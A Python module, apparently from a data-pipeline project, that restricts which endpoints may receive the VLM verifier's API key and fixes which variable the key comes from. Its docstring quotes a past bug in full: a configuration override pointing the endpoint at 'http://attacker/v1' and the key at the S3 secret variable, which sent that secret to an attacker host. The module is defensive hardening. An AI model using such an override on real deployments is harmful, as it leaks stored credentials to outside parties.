"""What the deployment decides and a configuration cannot: where credentials live and where they may go.

Issue 12: ``--set verify.llm_base_url=http://attacker/v1 --set verify.llm_api_key_env=LEADER360V_S3_SECRET_KEY``
sent the store's secret key as a Bearer token to any address. A configuration reaches a stage
from people who do not hold the deployment's secrets (``--set``, ``--config``, the DAG trigger
form's ``config_overrides``), so it must never choose:

* **the variable a credential is read from** -- the VLM verifier's key is always
  :data:`LLM_API_KEY_ENV`; the deployment fills it from a Secret (Helm ``secret_env``, compose);
* **the address that credential is sent to** -- an endpoint must be one the deployment lists:
  :data:`LLM_BASE_URL_ENV` (its endpoint, used when the configuration names none) and
  :data:`LLM_ALLOWED_ENDPOINTS_ENV` (more, comma-separated). A configuration may pick one of
  them (so the endpoint, which changes labels, still takes part in the run hash) but not add one.

Both are read from the process environment each time they are needed: the environment is the
deployment (Helm values, compose, an Airflow worker's env), and reading it late means the process
that would send the credential is the one that checks.
"""

from __future__ import annotations

import os
from urllib.parse import urlsplit, urlunsplit

from tasks.errors import ConfigError

#: The only variable the VLM verifier's API key is read from.
LLM_API_KEY_ENV = "LEADER360V_LLM_API_KEY"
#: The deployment's VLM endpoint (".../v1"); the default when the configuration names none.
LLM_BASE_URL_ENV = "LEADER360V_LLM_BASE_URL"
#: Further endpoints a configuration may choose, comma-separated.
LLM_ALLOWED_ENDPOINTS_ENV = "LEADER360V_LLM_ALLOWED_ENDPOINTS"


def normalize_endpoint(url: str) -> str:
    """``HTTP://Host:8000/v1/`` -> ``http://host:8000/v1``: one spelling per endpoint, so an
    allow-list entry matches exactly (never by prefix: ``http://vllm`` must not allow
    ``http://vllm.attacker.example``)."""
    text = str(url).strip()
    parts = urlsplit(text)
    if parts.scheme.lower() not in ("http", "https") or not parts.hostname:
        raise ConfigError(f"{text!r} is not an http(s) URL with a host (e.g. http://vllm:8000/v1)")
    if parts.username or parts.password or parts.query or parts.fragment:
        raise ConfigError(f"{text!r}: an endpoint has no user, password, query or fragment")
    host = parts.hostname.lower()
    if ":" in host:  # IPv6 literal
        host = f"[{host}]"
    try:
        port = parts.port
    except ValueError as exc:
        raise ConfigError(f"{text!r} has an invalid port: {exc}") from None
    netloc = host + (f":{port}" if port is not None else "")
    return urlunsplit((parts.scheme.lower(), netloc, parts.path.rstrip("/"), "", ""))


def deployment_llm_endpoint() -> str | None:
    """The deployment's own VLM endpoint (normalised), or None when it has none."""
    raw = os.environ.get(LLM_BASE_URL_ENV, "").strip()
    return normalize_endpoint(raw) if raw else None


def allowed_llm_endpoints() -> list[str]:
    """Every endpoint the deployment lets a configuration send the VLM key to (normalised)."""
    out = []
    own = deployment_llm_endpoint()
    if own:
        out.append(own)
    for item in os.environ.get(LLM_ALLOWED_ENDPOINTS_ENV, "").split(","):
        if item.strip():
            url = normalize_endpoint(item)
            if url not in out:
                out.append(url)
    return out


def check_llm_endpoint(url: str) -> str:
    """``url`` normalised if the deployment allows it; :class:`ConfigError` (exit 2) otherwise."""
    norm = normalize_endpoint(url)
    allowed = allowed_llm_endpoints()
    if norm not in allowed:
        listed = ", ".join(allowed) if allowed else "none"
        raise ConfigError(
            f"verify.llm_base_url {norm!r} is not an endpoint this deployment allows (allowed: {listed}). "
            f"Endpoints that receive the API key are set by the deployment, not by a configuration: "
            f"${LLM_BASE_URL_ENV} or ${LLM_ALLOWED_ENDPOINTS_ENV} (Helm values / compose environment)"
        )
    return norm


def resolve_llm_endpoint(configured: str | None) -> str:
    """The endpoint the verifier calls: the configured one (allowed), else the deployment's."""
    if configured:
        return check_llm_endpoint(configured)
    own = deployment_llm_endpoint()
    if own is None:
        raise ConfigError(
            f"verify.verifier=openai needs an endpoint: the deployment sets ${LLM_BASE_URL_ENV} "
            "(e.g. http://vllm:8000/v1), or lists several in "
            f"${LLM_ALLOWED_ENDPOINTS_ENV} and the configuration picks one with verify.llm_base_url"
        )
    return own


def llm_api_key() -> str | None:
    """The VLM API key from :data:`LLM_API_KEY_ENV` (None when unset or empty)."""
    return os.environ.get(LLM_API_KEY_ENV) or None
